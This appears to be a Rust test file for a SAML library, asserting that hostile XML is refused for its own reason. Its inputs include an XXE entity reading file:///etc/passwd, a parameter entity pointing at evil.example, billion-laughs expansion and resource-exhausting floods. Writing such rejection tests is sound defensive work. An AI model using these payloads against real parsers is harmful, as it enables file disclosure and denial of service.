//! Rule 1, 2 and 4: bytes, bounds, roots and IDs.

use crate::support::*;
use gatehouse_saml::{Message, Reason, decode_post_binding, limits};

fn after_start(xml: &str, insert: &str) -> String {
    swap(xml, "<samlp:Status>", &format!("{insert}<samlp:Status>"))
}

#[test]
fn hostile_xml_is_refused_for_its_own_reason() {
    let good = honest();
    let doctype = |dtd: &str| format!("{dtd}{good}");
    let utf16: Vec<u8> =
        [0xff, 0xfe].into_iter().chain(good.encode_utf16().flat_map(u16::to_le_bytes)).collect();
    let mut latin1 = good.clone().into_bytes();
    let at = good.find("ada@").unwrap();
    latin1[at] = 0xe4;
    let laughs = "<!DOCTYPE r [<!ENTITY a 'ha'><!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;'>]>";
    let many: String = (0..10_000).map(|n| format!(" a{n}=\"\"")).collect();
    let namespaces: String = (0..40_000).map(|n| format!(" xmlns:n{n}=\"urn:{n}\"")).collect();
    let spread: String = (0..25_000).map(|n| format!("<x xmlns:n{n}=\"u\"/>")).collect();
    let nested = format!("{}{}", "<x>".repeat(10_000), "</x>".repeat(10_000));
    let elements = "<x/>".repeat(30_000);
    let attributes = format!("<x{}/>", (0..60).map(|n| format!(" a{n}=''")).collect::<String>()).repeat(700);

    all_refused(
        vec![
            attack("empty", "", Reason::NotWellFormed),
            attack("not xml", "SAMLResponse", Reason::NotWellFormed),
            attack("utf-16", utf16, Reason::NotUtf8),
            attack("latin-1 bytes", latin1, Reason::NotUtf8),
            attack(
                "latin-1 declared",
                format!("<?xml version='1.0' encoding='ISO-8859-1'?>{good}"),
                Reason::NotUtf8,
            ),
            attack(
                "utf-7 declared",
                format!("<?xml version='1.0' encoding='UTF-7'?>{good}"),
                Reason::NotUtf8,
            ),
            attack("xml 1.1", format!("<?xml version='1.1'?>{good}"), Reason::XmlVersionUnsupported),
            attack("doctype, empty", doctype("<!DOCTYPE r>"), Reason::DoctypeForbidden),
            attack(
                "doctype with external subset",
                doctype("<!DOCTYPE r SYSTEM 'file:///etc/passwd'>"),
                Reason::DoctypeForbidden,
            ),
            attack(
                "xxe",
                doctype("<!DOCTYPE r [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>"),
                Reason::DoctypeForbidden,
            ),
            attack("billion laughs", doctype(laughs), Reason::DoctypeForbidden),
            attack("doctype in the middle", after_start(&good, "<!DOCTYPE r>"), Reason::DoctypeForbidden),
            attack(
                "parameter entity",
                doctype("<!DOCTYPE r [<!ENTITY % x SYSTEM 'http://evil.example/'>%x;]>"),
                Reason::DoctypeForbidden,
            ),
            attack("undeclared entity", swap(&good, "ada@example.org", "&ada;"), Reason::EntityForbidden),
            attack(
                "processing instruction",
                after_start(&good, "<?php evil ?>"),
                Reason::ProcessingInstructionForbidden,
            ),
            attack(
                "processing instruction in a value",
                swap(&good, "ada@example.org", "ada@<?x?>example.org"),
                Reason::ProcessingInstructionForbidden,
            ),
            attack("nested 10 000 deep", after_start(&good, &nested), Reason::TooDeep),
            attack(
                "10 000 attributes",
                after_start(&good, &format!("<x{many}/>")),
                Reason::TooManyAttributes,
            ),
            attack(
                "42 000 attributes on 700 elements",
                after_start(&good, &attributes),
                Reason::TooManyAttributes,
            ),
            attack(
                "a megabyte of namespaces",
                after_start(&good, &format!("<x{namespaces}/>")),
                Reason::TooManyNamespaces,
            ),
            attack(
                "25 000 namespaces on as many elements",
                after_start(&good, &spread),
                Reason::TooManyNamespaces,
            ),
            attack("30 000 elements", after_start(&good, &elements), Reason::TooManyElements),
            attack(
                "over a mebibyte",
                after_start(&good, &" ".repeat(limits::MESSAGE_BYTES)),
                Reason::MessageTooLarge,
            ),
            attack("second root", format!("{good}{good}"), Reason::NotWellFormed),
            attack("trailing garbage", format!("{good}garbage"), Reason::NotWellFormed),
            attack("truncated", &good[..good.len() / 2], Reason::NotWellFormed),
            attack("mismatched tags", swap(&good, "</samlp:Status>", "</samlp:Stat>"), Reason::NotWellFormed),
            attack("unbound prefix", after_start(&good, "<evil:x/>"), Reason::NotWellFormed),
            attack(
                "duplicate attribute",
                swap(&good, " Version=\"2.0\"", " Version=\"2.0\" Version=\"2.0\""),
                Reason::NotWellFormed,
            ),
            attack("control character", swap(&good, "ada@", "ada&#0;@"), Reason::NotWellFormed),
            attack(
                "root is the assertion",
                cut(&good, "<saml:Assertion", "</saml:Assertion>"),
                Reason::UnexpectedRoot,
            ),
            attack(
                "root is an envelope",
                format!("<e:Envelope xmlns:e='urn:e'>{good}</e:Envelope>"),
                Reason::UnexpectedRoot,
            ),
            attack(
                "root of another namespace",
                good.replace("SAML:2.0:protocol", "SAML:1.0:protocol"),
                Reason::UnexpectedRoot,
            ),
            attack(
                "logout response",
                good.replace("samlp:Response", "samlp:LogoutResponse"),
                Reason::UnexpectedRoot,
            ),
            attack("ws-federation where saml is spoken", issue_rstr(&rstr()), Reason::UnexpectedRoot),
            attack(
                "same ID twice",
                swap(&good, "<samlp:Status>", "<samlp:Status ID=\"_r1-a\">"),
                Reason::DuplicateId,
            ),
            attack(
                "same Id twice",
                swap(&good, "<samlp:Status>", "<samlp:Status Id=\"_r1-a\">"),
                Reason::DuplicateId,
            ),
            attack(
                "same xml:id twice",
                swap(&good, "<samlp:Status>", "<samlp:Status xml:id=\"_r1-a\">"),
                Reason::DuplicateId,
            ),
            attack(
                "same prefixed id twice",
                swap(&good, "<samlp:Status>", "<samlp:Status xmlns:w=\"u\" w:id=\"_r1-a\">"),
                Reason::DuplicateId,
            ),
            attack(
                "response and assertion with one ID",
                honest().replace("_r1-a", "_r1"),
                Reason::DuplicateId,
            ),
        ],
        38,
    );
}

/// The bounds are found by the linear pass, before any tree is built: text that the tree builder could not
/// take (its tags do not match) is refused for its excess all the same.
#[test]
fn excess_is_refused_before_a_tree_is_built() {
    let broken = "</never-opened></a></b>";
    let many: String = (0..10_000).map(|n| format!(" a{n}=\"\"")).collect();
    let namespaces: String = (0..40_000).map(|n| format!(" xmlns:n{n}=\"urn:{n}\"")).collect();
    let cases = [
        (format!("<r>{}", "<x>".repeat(10_000)), Reason::TooDeep),
        (format!("<r><x{many}/>{broken}"), Reason::TooManyAttributes),
        (format!("<r><x{namespaces}/>{broken}"), Reason::TooManyNamespaces),
        (format!("<r>{}{broken}", "<x/>".repeat(20_001)), Reason::TooManyElements),
        (format!("<r><!DOCTYPE x>{broken}"), Reason::DoctypeForbidden),
        (format!("<r>&evil;{broken}"), Reason::EntityForbidden),
        ("<".repeat(limits::MESSAGE_BYTES + 1), Reason::MessageTooLarge),
    ];
    for (text, reason) in cases {
        assert_eq!(Message::parse(text.as_bytes()).unwrap_err().reason, reason);
    }
}

/// Quadratic traps that stay under every bound still end quickly: they are judged here, and nextest's slow
/// test limit is the only clock.
#[test]
fn messages_just_within_the_bounds_are_judged() {
    let good = honest();
    let wide: String = (0..64).map(|n| format!(" a{n}=\"\"")).collect();
    let traps = [
        format!("<x{wide}/>").repeat(600),
        (0..4_000).map(|n| format!("<x xmlns:n{n}=\"urn:{n}\"/>")).collect::<String>(),
        format!("{}{}", "<x>".repeat(50), "</x>".repeat(50)),
        "<x>&amp;</x>".repeat(19_000),
        format!("<x a=\"{}\"/>", "&lt;".repeat(200_000)),
    ];
    for trap in traps {
        let message = after_start(&good, &trap);
        assert!(Message::parse(message.as_bytes()).is_ok());
        accepted(gatehouse_saml::verify_bytes(message.as_bytes(), &policy()));
    }
}

/// A canonical form of gigabytes: a long namespace, used by thousands of siblings.
#[test]
fn a_canonical_form_that_explodes_is_refused() {
    let uri = "u".repeat(200_000);
    let inside = format!("<saml:Advice>{}</saml:Advice></saml:Assertion>", "<big:x/>".repeat(1_000));
    let xml =
        response().unsigned().replacen("<samlp:Response", &format!("<samlp:Response xmlns:big=\"{uri}\""), 1);
    let xml = swap(&xml, "</saml:Assertion>", &inside);
    let message = with_custom_signature(
        &xml,
        b"",
        |info| info,
        |info| IDP_KEY.key.sign(gatehouse_saml::SignatureAlgorithm::RsaSha256, info).unwrap(),
    );
    let refused = gatehouse_saml::verify_bytes(message.as_bytes(), &policy()).outcome.unwrap_err();
    assert_eq!(refused.reason, Reason::CanonicalFormTooLarge);
}

#[test]
fn the_form_field_is_base64_within_bounds() {
    assert_eq!(decode_post_binding("PGEv\r\n Pg==\n").unwrap(), b"<a/>");
    assert_eq!(decode_post_binding("not base64!").unwrap_err().reason, Reason::NotBase64);
    assert_eq!(decode_post_binding("").unwrap_err().reason, Reason::NotBase64);
    assert_eq!(decode_post_binding("PGEvPg").unwrap_err().reason, Reason::NotBase64);
    assert_eq!(decode_post_binding(&"A".repeat(1_500_000)).unwrap_err().reason, Reason::MessageTooLarge);
    let full = base64(vec![b' '; limits::MESSAGE_BYTES]);
    assert_eq!(decode_post_binding(&full).unwrap().len(), limits::MESSAGE_BYTES);
    let over = base64(vec![b' '; limits::MESSAGE_BYTES + 3]);
    assert_eq!(decode_post_binding(&over).unwrap_err().reason, Reason::MessageTooLarge);
}
